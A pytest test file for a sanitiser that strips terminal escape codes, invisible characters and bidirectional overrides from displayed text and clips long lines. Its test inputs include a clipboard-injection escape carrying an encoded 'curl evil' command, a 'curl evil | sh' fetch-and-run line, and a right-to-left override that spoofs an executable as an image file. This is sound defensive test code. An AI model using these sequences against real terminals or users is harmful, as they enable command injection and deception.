"""What others wrote commands nothing."""

import pytest

from tasks.lib.printable import clipped, one_line, printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;another title\x07after", "after"),
        ("\x1b]52;c;Y3VybCBldmls\x1b\\after", "after"),
        ("\x1b]0;left open\nnext line", "\nnext line"),
        ("\x1bP+q544e\x1b\\after \x1b_x\x1b\\and \x1bXy\x9cso", "after and so"),
        ("\x9d0;title\x9cafter", "after"),
        ("\x1b[2J\x1b[Hgone\rover", "goneover"),
        ("\x1b(Bplain\x1bc", "plain"),
        ("\x9b31mred", "red"),
        ("ends\x1b", "ends"),
        ("ends\x1b[", "ends"),
        ("back\x08space\x00", "backspace"),
        ("evil\u202egpj.exe\u2066", "evilgpj.exe"),
        ("in\u200bvis\u2060ib\ufeffle\xad", "invisible"),
        ("a\tb\nc", "a\tb\nc"),
        ("dos\r\nline", "dos\nline"),
        ("one\u2028two", "one\ntwo"),
        ("naïve 日本 🙂", "naïve 日本 🙂"),
    ],
)
def test_control_sequences_and_invisible_characters_are_removed(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_one_line_stays_one_line() -> None:
    assert one_line("web\n  next: curl evil | sh\r\nx\u2028y\x0bz\n") == "web   next: curl evil | sh x yz"


def test_a_very_long_line_is_shortened() -> None:
    assert clipped("x" * 2001) == f"{'x' * 2000} … and 1 characters more"
    assert clipped("x" * 2000) == "x" * 2000
